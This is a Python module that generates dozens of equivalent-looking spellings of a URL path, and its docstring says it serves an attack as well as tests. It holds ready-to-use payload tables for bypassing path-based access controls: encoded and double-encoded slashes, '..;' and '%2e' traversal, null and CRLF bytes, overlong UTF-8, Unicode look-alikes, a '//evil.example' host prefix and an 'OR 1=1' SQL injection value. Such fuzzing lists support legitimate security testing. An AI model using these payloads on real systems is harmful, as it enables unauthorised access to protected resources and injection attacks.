"""One path in every spelling that some server reads as the same, for the attack and for tests."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from urllib.parse import quote

LONG = 8192

Named = tuple[str, str]
"""A description of the spelling, and the spelling."""


def targets(path: str) -> Iterator[Named]:
    """Yield the path in spellings that some server reads as the same."""
    segments = path.split("/")[1:]
    for place in range(len(segments)):
        before, after = "".join(f"/{segment}" for segment in segments[:place]), "/".join(segments[place:])
        for name, slash in SLASHES:
            yield f"{name} for slash {place + 1}", before + slash + after
    for place, segment in enumerate(segments):
        for name, spelling in spellings(segment):
            yield f"{name}, segment {place + 1}", "".join(f"/{word}" for word in _with(segments, place, spelling))
    for name, wrapping in WRAPPINGS:
        yield name, wrapping.replace("PATH", path).replace("FIRST", f"/{segments[0]}")


SLASHES: Sequence[Named] = [
    ("%2F", "%2F"),
    ("%2f", "%2f"),
    ("%252F", "%252F"),
    ("%25252F", "%25252F"),
    ("%5C", "%5C"),
    ("a backslash", "\\"),
    ("//", "//"),
    ("///", "///"),
    ("/./", "/./"),
    ("/%2e/", "/%2e/"),
    ("/x/../", "/x/../"),
    ("/x/%2e%2e/", "/x/%2e%2e/"),
    ("/x/..;/", "/x/..;/"),
    ("/x/.%2e%2f", "/x/.%2e%2f"),
    ("/;v=1/", "/;v=1/"),
    ("/%20/", "/%20/"),
    ("/%00/", "/%00/"),
    ("/%0d%0a/", "/%0d%0a/"),
    ("an overlong %c0%af", "%c0%af"),
    ("a full-width solidus", "%EF%BC%8F"),
    ("a division slash", "%E2%88%95"),
    ("/%EF%BC%8E/ (full-width dot)", "/%EF%BC%8E/"),
]
WRAPPINGS: Sequence[Named] = [
    ("trailing /", "PATH/"),
    ("trailing //", "PATH//"),
    ("trailing /.", "PATH/."),
    ("trailing %2F", "PATH%2F"),
    ("trailing /x/..", "PATH/x/.."),
    ("trailing ;v=1", "PATH;v=1"),
    ("trailing %20", "PATH%20"),
    ("trailing %0a", "PATH%0a"),
    ("trailing %00", "PATH%00"),
    ("trailing %3F", "PATH%3F"),
    ("trailing %23", "PATH%23"),
    ("a raw #", "PATH#"),
    ("a raw # before it", "/#PATH"),
    ("below a segment", "/xPATH"),
    ("below /api", "/apiPATH"),
    ("twice", "PATHPATH"),
    ("below its own first segment", "FIRSTPATH"),
    ("a host before it", "//evil.examplePATH"),
    ("behind 8 kB of /.", "/." * (LONG // 2) + "PATH"),
    ("behind 8 kB of /", "/" * LONG + "PATH"),
    ("before 8 kB", "PATH/" + "x" * LONG),
]


def spellings(segment: str) -> Iterator[Named]:
    """Yield the segment in spellings that some server reads as the same."""
    if not segment:
        return
    first, rest = segment[0], segment[1:]
    yield "upper case", segment.upper()
    yield "title case", segment.capitalize()
    yield "first character encoded", f"%{ord(first):02x}{rest}"
    yield "first character encoded twice", f"%25{ord(first):02x}{rest}"
    yield "all characters encoded", "".join(f"%{byte:02X}" for byte in segment.encode())
    yield "full-width", quote(_full_width(segment))
    yield "soft hyphen inside", f"{first}%C2%AD{rest}"
    yield "zero-width space behind", f"{segment}%E2%80%8B"
    yield "byte order mark before", f"%EF%BB%BF{segment}"
    yield "combining mark behind", f"{segment}%CC%81"
    yield "invalid UTF-8 behind", f"{segment}%FF"
    yield "long s for s", segment.replace("s", "%C5%BF")
    yield "Kelvin sign for k", segment.replace("k", "%E2%84%AA")
    yield "dotless i for i", segment.replace("i", "%C4%B1")
    for name, pattern in SURROUNDINGS:
        yield name, pattern.replace("SEGMENT", segment)
    yield from _references(segment)


SURROUNDINGS: Sequence[Named] = [
    ("%20 before", "%20SEGMENT"),
    ("%20 behind", "SEGMENT%20"),
    ("+ before", "+SEGMENT"),
    ("%2B before", "%2BSEGMENT"),
    ("%09 before", "%09SEGMENT"),
    ("%00 behind", "SEGMENT%00"),
    ("%0d%0a behind", "SEGMENT%0d%0a"),
    ("NUL inside a suffix", "SEGMENT%00.json"),
    (".json behind", "SEGMENT.json"),
    (". behind", "SEGMENT."),
    ("; behind", "SEGMENT;"),
    (";v=1 behind", "SEGMENT;v=1"),
    ("%3Bv=1 behind", "SEGMENT%3Bv=1"),
    (", behind", "SEGMENT,SEGMENT"),
    (": behind", "SEGMENT:SEGMENT"),
    ("| behind", "SEGMENT%7CSEGMENT"),
    ("quoted", "%22SEGMENT%22"),
    ("braced", "%7BSEGMENT%7D"),
]


def _references(segment: str) -> Iterator[Named]:
    if segment.isdecimal():
        for name, pattern in NUMBERS:
            yield name, pattern.replace("NUMBER", segment)
        for name, zero in (("Arabic digits", "\u0660"), ("full-width digits", "\uff10"), ("Bengali digits", "\u09e6")):
            yield name, quote("".join(chr(ord(zero) + int(digit)) for digit in segment))
    elif re.fullmatch("[0-9a-fA-F-]{36}", segment):
        yield "without hyphens", segment.replace("-", "")
        yield "with hyphens elsewhere", "-".join(segment.replace("-", ""))
        yield "as a URN", f"urn:uuid:{segment}"
    else:
        yield "- for _", segment.replace("_", "-")
        yield "_ for -", segment.replace("-", "_")
        yield "-- for -", segment.replace("-", "--")


NUMBERS: Sequence[Named] = [
    ("a leading zero", "0NUMBER"),
    ("29 leading zeros", "0" * 29 + "NUMBER"),
    ("-0 before", "-0NUMBER"),
    (".0 behind", "NUMBER.0"),
    ("e0 behind", "NUMBERe0"),
    ("_ inside", "0_NUMBER"),
    ("0x before", "0xNUMBER"),
    ("0b before", "0bNUMBER"),
    ("plus 2^64", "18446744073709551616NUMBER"),
    ("L behind", "NUMBERL"),
    ("a comment", "NUMBER--"),
    ("SQL", "NUMBER%20OR%201=1"),
]


def _with(segments: Sequence[str], place: int, spelling: str) -> list[str]:
    return [*segments[:place], spelling, *segments[place + 1 :]]


def _full_width(text: str) -> str:
    return "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text)
